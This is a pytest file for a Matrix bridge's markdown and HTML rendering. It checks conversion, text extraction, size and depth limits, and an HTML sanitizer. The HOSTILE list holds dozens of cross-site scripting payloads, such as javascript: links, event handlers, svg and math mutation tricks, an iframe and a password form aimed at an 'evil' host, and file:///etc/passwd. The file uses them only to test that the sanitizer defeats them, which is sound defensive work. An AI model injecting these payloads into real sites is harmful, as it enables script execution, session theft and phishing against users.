"""Markdown and HTML: what a room shows of them, and that nothing hostile gets there."""

import contextlib
import json
import re
import time
from html.parser import HTMLParser
from typing import Any
from urllib.parse import urlsplit

import pytest

from flowbridge.rendering import cleaning, formats

PILL = '<a href="https://matrix.to/#/@al:hs">@al:hs</a>'


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("plain", None),
        ("it's 5 < 6 & so on", None),
        ("*x* __y__", "<em>x</em> <strong>y</strong>"),
        ("a\nb", "a<br>\nb"),
        ("p1\n\np2", "<p>p1</p>\n<p>p2</p>"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>"),
        ("# T", "<h1>T</h1>"),
        ("~~s~~ `c`", "<del>s</del> <code>c</code>"),
        ("```py\nx < 1\n```", '<pre><code class="language-py">x &lt; 1\n</code></pre>'),
        ("[a](https://x/ 'T')", '<a href="https://x/">a</a>'),
        ("<b>no HTML</b> *x*", "&lt;b&gt;no HTML&lt;/b&gt; <em>x</em>"),
        ("![alt](http://x/y.png)", "alt"),
        ("![alt](mxc://hs/a)", '<img src="mxc://hs/a" alt="alt">'),
        ("hi @al:hs **b** `@al:hs`", f"hi {PILL} <strong>b</strong> <code>@al:hs</code>"),
        ("|a|b|\n|-|-|\n|1|2|", re.compile("<table>\n<thead>.*<td>2</td>.*", re.DOTALL)),
    ],
)
def test_markdown_is_html_with_its_source_as_body(source: str, expected: Any) -> None:
    body, html = formats.markdown(source, ["@al:hs"])
    assert body == source
    if isinstance(expected, re.Pattern):
        assert expected.fullmatch(html or "")
    else:
        assert html == expected


@pytest.mark.parametrize(
    ("source", "body"),
    [
        ("<p>One</p><p>two <b>b</b></p>", "One\n\ntwo b"),
        ("<h1>T</h1>text<br>more", "T\n\ntext\nmore"),
        (" a \n b   c <i> d</i>", "a b c d"),
        ("<ul><li>a<li>b<ul><li>c</ul></ul>", "- a\n- b\n  - c"),
        ("<ol start=3><li>x</li><li><p>y</p></li></ol>", "3. x\n4. y"),
        ("<blockquote>q1<br>q2<p>q3</p></blockquote>after", "> q1\n> q2\n>\n> q3\n\nafter"),
        ("<a href='https://x/'>link</a>, <a href='https://y/'>https://y/</a>", "link (https://x/), https://y/"),
        ("<a href='https://matrix.to/#/@al:hs'>Al</a>", "Al"),
        ("<a href='mailto:a@b.c'>a@b.c</a>", "a@b.c"),
        ("<table><tr><th>a<th>b<tr><td>1<td>2</table>", "a | b\n1 | 2"),
        ("<pre><code>a\n  b\n</code></pre>z", "a\n  b\n\nz"),
        ("x<hr>y", "x\n---\ny"),
        ("<span data-mx-spoiler='why'>secret <span>too</span></span> open", "[spoiler: why] open"),
        ("<span data-mx-spoiler>secret</span>", "[spoiler]"),
        ("<img src='mxc://hs/a' alt='cat'> <img src='http://x/' alt='dog'>", "cat dog"),
        ("<details><summary>S</summary>inside</details>", "S\ninside"),
        ("&lt;b&gt; &amp; &auml;", "<b> & ä"),
        ("a<script>alert(1)</script>b<style>x</style>", "ab"),
        ("<mx-reply><blockquote>old</blockquote></mx-reply>new", "new"),
    ],
)
def test_body_of_html_is_its_text(source: str, body: str) -> None:
    assert formats.html(source, [])[0] == body


@pytest.mark.parametrize("source", ["<script>x</script>", "<br>", "<img src=x>", "<!-- x -->", "<b></b>"])
def test_html_without_anything_to_show_is_refused(source: str) -> None:
    with pytest.raises(formats.RefusedError, match="holds nothing that a room could show"):
        formats.html(source, [])


@pytest.mark.parametrize(
    "source",
    [
        "|" + "a|" * 1_000 + "\n|" + "-|" * 1_000 + "\n" + "|x\n" * 1_000,
        "|" + "a|" * 1_000 + "\n|" + "-|" * 1_000 + "\n" + "x\n" * 1_000,
        "|" + "a|" * 1_000 + "\r|" + "-|" * 1_000 + "\r" + "x\u2028\r" * 1_000,
        "> |" + "a|" * 100 + "\n> |" + "-|" * 100 + "\n" + "> x\n" * 100,
        ("|" + "a|" * 10 + "\n|" + ":-:|" * 10 + "\n" + "x\n" * 10 + "\n") * 30,
    ],
)
def test_markdown_tables_are_bounded(source: str) -> None:
    started = time.process_time()
    with pytest.raises(formats.RefusedError, match="has tables of more than 2000 cells"):
        formats.markdown(source, [])
    assert time.process_time() - started < 0.5


def test_bars_are_no_table() -> None:
    formats.markdown("cat x | grep y | sort\n" * 700, [])


ALLOWED = [
    "<del>x</del>", "<h6>x</h6>", "<sup>x</sup><sub>y</sub>", "<u>x</u>", "<hr>", "<caption>x</caption>",
    '<span data-mx-color="#ff0000" data-mx-bg-color="#00ff00">x</span>', '<span data-mx-spoiler="">x</span>',
    '<div data-mx-maths="x^2">x</div>', '<a href="magnet:?xt=x">x</a>', '<a href="ftp://x/y">x</a>',
    '<img width="1" height="2" alt="a" title="t" src="mxc://hs/a">', '<ol start="5"><li>x</li></ol>',
    '<pre><code class="language-c++">x</code></pre>', "<details><summary>x</summary>y</details>",
]  # fmt: skip


@pytest.mark.parametrize("html", [html for html in ALLOWED if "caption" not in html])
def test_what_matrix_allows_stays(html: str) -> None:
    found = cleaning.clean(html)
    assert sorted(re.findall(r'[\w-]+(?:="[^"]*")?', found)) == sorted(re.findall(r'[\w-]+(?:="[^"]*")?', html))


HOSTILE = [
    "<script>alert(1)</script>x",
    "<SCRIPT SRC=//evil/x.js></SCRIPT>x",
    "<img src=x onerror=alert(1)>x",
    "<img src='http://evil/track.png'>x",
    "<img src='https://evil/track.png' alt='\"><script>alert(1)</script>'>x",
    "<img src='//evil/x'>x",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>x",
    "<img src=`javascript:alert(1)`>x",
    "<img src='MXC://hs/a' onload=alert(1)>x",
    "<img srcset='https://evil/x 2x' src='mxc://hs/a'>x",
    "<img src='mxc://hs/a' style='position:fixed'>x",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A&#x61vascript&colon;alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='//evil/'>x</a>",
    "<a href='/relative'>x</a>",
    "<a href='\\\\evil\\share'>x</a>",
    "<a href='blob:https://evil/x'>x</a>",
    "<a href='mxc://hs/a'>x</a>",
    "<a href='https://ok/' onclick=alert(1) style=color:red id=x class=y>x</a>",
    "<a href='https://ok/' target=_self ping=//evil/>x</a>",
    "<a href=\"https://ok/\"onmouseover=\"alert(1)\">x</a>",
    "<b onmouseover=alert(1)>x</b>",
    "<svg onload=alert(1)>x</svg>y",
    "<svg><script>alert(1)</script></svg>x",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>y",
    "<svg><style><img src=x onerror=alert(1)></style></svg>x",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>x",
    "<math href='javascript:alert(1)'>x</math>y",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>x",
    "<iframe src='https://evil/'></iframe>x",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>x",
    "<object data='https://evil/x.swf'></object>x",
    "<embed src='https://evil/x.swf'>x",
    "<applet code=x></applet>x",
    "<link rel=stylesheet href='https://evil/x.css'>x",
    "<meta http-equiv=refresh content='0;url=https://evil/'>x",
    "<base href='https://evil/'>x",
    "<style>@import 'https://evil/x.css';</style>x",
    "<div style='background:url(https://evil/)'>x</div>",
    "<p style='position:fixed;top:0'>x</p>",
    "<form action='https://evil/'><input name=password><button>x</button></form>",
    "<input autofocus onfocus=alert(1)>x",
    "<select onfocus=alert(1) autofocus><option>x</select>y",
    "<textarea><img src=x onerror=alert(1)></textarea>x",
    "<title><img src=x onerror=alert(1)></title>x",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>x",
    "<template><script>alert(1)</script></template>x",
    "<xmp><p title='</xmp><svg/onload=alert(1)>'>x",
    "<noembed><img title='</noembed><img src onerror=alert(1)>'></noembed>x",
    "<plaintext><script>alert(1)</script>",
    "<video src='https://evil/x' onerror=alert(1)></video>x",
    "<audio src=x onerror=alert(1)>x</audio>y",
    "<marquee onstart=alert(1)>x</marquee>",
    "<details open ontoggle=alert(1)>x</details>",
    "<table background='javascript:alert(1)'><tr><td>x</table>",
    "<body onload=alert(1)>x",
    "<isindex type=image src=x onerror=alert(1)>x",
    "<!--><img src=x onerror=alert(1)>-->x",
    "<!-- --!><img src=x onerror=alert(1)> -->x",
    "<![CDATA[><script>alert(1)</script>]]>x",
    "<?xml version='1.0'?><script>alert(1)</script>x",
    "<<script>alert(1)//<</script>x",
    "<scr<script>ipt>alert(1)</scr</script>ipt>x",
    "<img \x00src=x onerror=alert(1)>x",
    "<img/src=x/onerror=alert(1)>x",
    "<a href=https://ok/?a=\"'><img/onerror=alert(1)>x</a>",
    "<code class='evil language-py other'>x</code>",
    "<span data-mx-color='red;background:url(//evil)'>x</span>",
    "<span data-mx-color='#12345'>x</span>",
    "<ol start='-9999999999'><li>x</ol>",
    "<img src='mxc://hs/a' width='100%' height='9999999999'>x",
    "<font color=red size=7 face=x>x</font>",
    "<custom-element is=x>y</custom-element>",
    "<p id=location name=body>x</p>",
    "<mx-reply>forged quote</mx-reply>x",
    "<b>unclosed <i>tags <a href='https://ok/'>x",
    "</p></div></body></html>x",
]  # fmt: skip


class Shown(HTMLParser):
    """The tags and attributes that a browser would see."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))


def check_harmless(html: str) -> None:
    assert "<!" not in html
    assert "<?" not in html
    for tag, attributes in Shown(html).tags:
        assert tag in cleaning.TAGS
        for name, value in attributes.items():
            assert name in cleaning.ATTRIBUTES.get(tag, ())
            if name == "href":
                assert urlsplit(value).scheme in cleaning.SCHEMES - {"mxc"}
            elif name == "src":
                assert value.startswith("mxc://")
            elif name == "class":
                assert re.fullmatch(r"language-[\w+#.-]+", value)
            elif "color" in name:
                assert re.fullmatch("#[0-9a-fA-F]{6}", value)
            elif name in ("width", "height", "start"):
                assert value.isdigit()


def test_there_are_many_hostile_snippets() -> None:
    assert len(set(HOSTILE)) >= 60


@pytest.mark.parametrize("source", HOSTILE)
def test_hostile_html_is_harmless(source: str) -> None:
    html = cleaning.clean(source)
    check_harmless(html)
    assert cleaning.clean(html) == html
    try:
        body, shown = formats.html(source, ["@al:hs"])
    except formats.RefusedError:
        return
    check_harmless(shown or "")
    assert "alert" not in body or "alert" in html


@pytest.mark.parametrize("source", HOSTILE)
def test_hostile_html_in_markdown_is_a_text(source: str) -> None:
    """Raw HTML is shown as it was written; links and pictures are as harmless as in HTML."""
    for markdown in (source, f"[x]({source})", f"![x](<{source.replace('>', '')}>)", f"`{source}`"):
        _, html = formats.markdown(markdown, [])
        check_harmless(html or "")


@pytest.mark.parametrize(
    "source",
    [
        "<b>" * 101,
        "<b></i>" * 101,
        "<a href=x>" * 4_000,
        "<font size=1></b>" * 101,
        "<div>" * 50 + "<span>" * 51,
        "<B><b>" * 60,
    ],
)
def test_html_with_too_many_open_tags_is_refused_at_once(source: str) -> None:
    started = time.process_time()
    with pytest.raises(cleaning.TooDeepError, match="has more than 100 tags open at a time"):
        formats.html(source, [])
    assert time.process_time() - started < 0.5


@pytest.mark.parametrize("source", ["<p>x" * 500, "<li>x" * 500, "<b>x</b>" * 500, "<br>x" * 500, "<b>" * 100 + "x"])
def test_html_that_is_long_and_not_deep_is_taken(source: str) -> None:
    assert formats.html(source, [])[0]


def test_answer_survives_json() -> None:
    body, html = formats.html("<b>\ud7ff\U0001f44d</b>", [])
    assert json.loads(json.dumps([body, html])) == ["\ud7ff👍", "<b>\ud7ff👍</b>"]


# ruff: noqa: SIM905
PARTS = r"""[ ![ [a]( <http: <a &amp; ~~a > - 1. * _ ` # | <!-- <? <![CDATA[ </ \ *a**b ![]( [a](<b e`""".split()
LINES = ("> ", "- ", "*a_ ", "1. a\n", "[a]:x\n", "  - a\n", "*a **a ", "\t")
TABLE = "|a" * 60 + "\n" + "|-" * 60 + "\n" + ("|a" * 60 + "\n") * 30
WORST = {text: text * 16_384 for text in (*PARTS, *LINES, TABLE)}


@pytest.mark.parametrize("text", WORST)
def test_nothing_of_16_kib_takes_long(text: str) -> None:
    """The process is shared: a caller may wait for one text of each other caller."""
    source = WORST[text][:16_384]
    began = time.process_time()
    with contextlib.suppress(ValueError):
        formats.markdown(source, [])
    assert time.process_time() - began < 0.5  # it is 0.05 at most; the machine may be busy
